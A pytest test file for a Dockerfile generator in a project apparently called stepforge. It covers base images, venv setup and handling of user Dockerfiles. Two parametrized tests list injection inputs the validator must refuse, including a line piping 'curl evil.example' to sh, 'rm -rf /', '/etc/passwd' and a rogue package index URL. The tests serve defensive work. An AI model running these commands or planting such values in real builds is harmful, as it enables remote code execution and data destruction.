from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.build_specs import build_spec, code_folder

from stepforge.services.build.dockerfile import (
    CUDA_BASE_IMAGES,
    UV_IMAGE,
    RecipeError,
    generated_dockerfile,
    image_recipe,
    wrapped_dockerfile,
)
from stepforge.services.core.languages import SUPPORTED_LANGUAGES, find_language
from stepforge.services.kubernetes.step_image import STEP_UID

CPU = find_language("python:3.11-slim")
GPU = find_language("python-cuda:3.11-12.4")


def _lines(text: str) -> list[str]:
    return text.splitlines()


def _index(lines: list[str], start: str) -> int:
    return next(i for i, line in enumerate(lines) if line.startswith(start))


def test_cpu_image_starts_from_python_slim_and_makes_the_venv_with_its_python() -> None:
    assert CPU is not None
    lines = _lines(generated_dockerfile(CPU, None, ()))

    assert lines[1] == "FROM python:3.11-slim"
    assert f"COPY --from={UV_IMAGE} /uv /usr/local/bin/uv" in lines
    venv = json.loads(lines[_index(lines, "RUN [")].removeprefix("RUN "))
    assert venv == [
        "/usr/local/bin/uv",
        "venv",
        "--no-project",
        "--python",
        "/usr/local/bin/python3.11",
        "/stepforge/venv",
    ]
    assert "COPY code/ /stepforge/code/" in lines
    assert "COPY .stepforge/runner.py .stepforge/pod_entry.py /stepforge/" in lines
    assert "WORKDIR /stepforge/code" in lines
    assert "ENV PATH=/stepforge/venv/bin:$PATH" in lines
    assert lines[-1] == f"USER {STEP_UID}:{STEP_UID}"
    assert not any("apt-get" in line or '"pip"' in line for line in lines)


def test_cuda_image_starts_from_the_cuda_runtime_and_gets_python_from_uv() -> None:
    assert GPU is not None
    text = generated_dockerfile(GPU, None, ())
    lines = _lines(text)

    assert lines[1] == "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04"
    # Where the non-root user can read the interpreter uv fetches.
    assert "UV_PYTHON_INSTALL_DIR=/stepforge/python" in text
    venv = json.loads(lines[_index(lines, "RUN [")].removeprefix("RUN "))
    assert venv[-3:] == ["--python", "3.11", "/stepforge/venv"]


@pytest.mark.parametrize(
    "language",
    [language for language in SUPPORTED_LANGUAGES if language.cuda_version],
    ids=lambda language: language.name,
)
def test_every_cuda_language_has_a_full_cuda_base_tag(language: object) -> None:
    text = generated_dockerfile(language, None, ())  # type: ignore[arg-type]
    base = _lines(text)[1].removeprefix("FROM ")

    assert base == CUDA_BASE_IMAGES[language.cuda_version]  # type: ignore[attr-defined]
    assert base.endswith("-runtime-ubuntu22.04")
    version = base.split(":")[1].split("-")[0]
    assert version.startswith(f"{language.cuda_version}.")  # type: ignore[attr-defined]
    assert version.count(".") == 2


def test_system_dependencies_install_as_root_before_the_user_switch() -> None:
    assert CPU is not None
    text = generated_dockerfile(CPU, None, ("zlib1g", "libgomp1", "zlib1g"))
    lines = _lines(text)

    apt = _index(lines, "RUN apt-get update")
    assert apt < _index(lines, "USER ")
    assert apt < _index(lines, "RUN groupadd")
    instruction = text[text.index("RUN apt-get update") :].split("\nRUN groupadd")[0]
    assert "apt-get install --yes --no-install-recommends libgomp1 zlib1g" in (
        instruction
    )
    assert instruction.rstrip().endswith("rm -rf /var/lib/apt/lists/*")


def test_requirements_install_into_the_venv_from_the_code_folder() -> None:
    assert CPU is not None
    lines = _lines(generated_dockerfile(CPU, "deps/requirements.txt", ()))

    install = _index(lines, 'RUN ["/usr/local/bin/uv", "pip"')
    assert json.loads(lines[install].removeprefix("RUN ")) == [
        "/usr/local/bin/uv",
        "pip",
        "install",
        "--python",
        "/stepforge/venv/bin/python",
        "--requirement",
        "deps/requirements.txt",
    ]
    assert _index(lines, "WORKDIR /stepforge/code") < install < _index(lines, "USER ")


def test_the_same_settings_always_give_the_same_bytes() -> None:
    assert GPU is not None
    first = generated_dockerfile(GPU, "requirements.txt", ("git", "curl"))
    again = generated_dockerfile(GPU, "requirements.txt", ("curl", "git", "curl"))

    assert first == again
    assert first != generated_dockerfile(GPU, "requirements.txt", ("curl",))


@pytest.mark.parametrize(
    "path",
    [
        "requirements.txt\nRUN curl evil.example | sh",
        "requirements.txt && rm -rf /",
        "$(touch /pwned).txt",
        "${HOME}/requirements.txt",
        "req uirements.txt",
        "'requirements.txt'",
        '"]\nRUN ["sh',
        "requirements.txt\\",
        "../requirements.txt",
        "deps/../../requirements.txt",
        "/etc/passwd",
        "--index-url=http://evil.example",
    ],
)
def test_requirements_paths_that_could_inject_are_refused(path: str) -> None:
    assert CPU is not None
    with pytest.raises(RecipeError, match=r"container_config\.requirements_path"):
        generated_dockerfile(CPU, path, ())


@pytest.mark.parametrize(
    "package",
    [
        "curl\nRUN evil",
        "curl && rm -rf /",
        "curl;reboot",
        "--allow-unauthenticated",
        "$(evil)",
        "Curl",
        "c",
    ],
)
def test_system_dependencies_that_could_inject_are_refused(package: str) -> None:
    assert CPU is not None
    with pytest.raises(
        RecipeError, match=r"container_config\.system_dependencies\[1\]"
    ):
        generated_dockerfile(CPU, None, ("git", package))


def test_a_steps_own_dockerfile_is_kept_and_followed_by_the_contract(
    tmp_path: Path,
) -> None:
    own = "FROM python:3.12-slim\nRUN pip install numpy\n"
    code = code_folder(tmp_path, {"main.py": "", "docker/Dockerfile": own})

    recipe = image_recipe(build_spec(code, dockerfile_path="docker/Dockerfile"), code)
    text = recipe.dockerfile.decode()

    assert recipe.code_dir == ""
    assert text.startswith(own)
    assert _lines(text)[-5:] == [
        "COPY .stepforge/runner.py .stepforge/pod_entry.py /stepforge/",
        "COPY . /stepforge/code/",
        "WORKDIR /stepforge/code",
        "ENV PATH=/stepforge/venv/bin:$PATH",
        f"USER {STEP_UID}:{STEP_UID}",
    ]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("FROM python:3.12-slim\nRUN echo hi \\\n", "line continuation"),
        (
            "FROM python:3.12-slim\nRUN echo hi \\\n# a comment\n\n",
            "line continuation",
        ),
        ("# escape=`\nFROM python:3.12-slim\nRUN echo hi `\n", "line continuation"),
        ("FROM python:3.12-slim\nRUN <<EOF\necho hi\n", "here-document"),
        ("RUN echo no base\n", "no FROM"),
    ],
)
def test_an_own_dockerfile_that_would_swallow_the_contract_is_refused(
    text: str, rule: str
) -> None:
    with pytest.raises(RecipeError, match=rule) as raised:
        wrapped_dockerfile(text, "Dockerfile")
    assert "container_config.dockerfile_path 'Dockerfile'" in str(raised.value)


def test_a_closed_here_document_and_a_backslash_under_another_escape_are_fine() -> None:
    heredoc = "FROM python:3.12-slim\nRUN <<EOF\necho hi\nEOF\n"
    backtick = "# escape=`\nFROM python:3.12-slim\nRUN echo C:\\\n"

    assert wrapped_dockerfile(heredoc, "Dockerfile").startswith(heredoc)
    assert wrapped_dockerfile(backtick, "Dockerfile").startswith(backtick)


def test_code_paths_must_name_files_inside_thecode_folder(tmp_path: Path) -> None:
    code = code_folder(tmp_path, {"main.py": "", "requirements.txt": ""})
    (tmp_path / "outside.txt").write_text("")
    (code / "escape.txt").symlink_to(tmp_path / "outside.txt")

    with pytest.raises(RecipeError, match="is not a file in the step's code"):
        image_recipe(build_spec(code, requirements_path="missing.txt"), code)
    with pytest.raises(RecipeError, match="leads outside the step's code"):
        image_recipe(build_spec(code, requirements_path="escape.txt"), code)
    with pytest.raises(RecipeError, match=r"container_config\.dockerfile_path"):
        image_recipe(build_spec(code, dockerfile_path="Dockerfile"), code)
    recipe = image_recipe(build_spec(code, requirements_path="requirements.txt"), code)
    assert b"requirements.txt" in recipe.dockerfile


def test_an_own_dockerfile_must_not_meet_the_suites_context_folder(
    tmp_path: Path,
) -> None:
    code = code_folder(
        tmp_path,
        {"main.py": "", "Dockerfile": "FROM python:3.12-slim\n", ".stepforge/x": ""},
    )

    with pytest.raises(RecipeError, match="'.stepforge'"):
        image_recipe(build_spec(code, dockerfile_path="Dockerfile"), code)
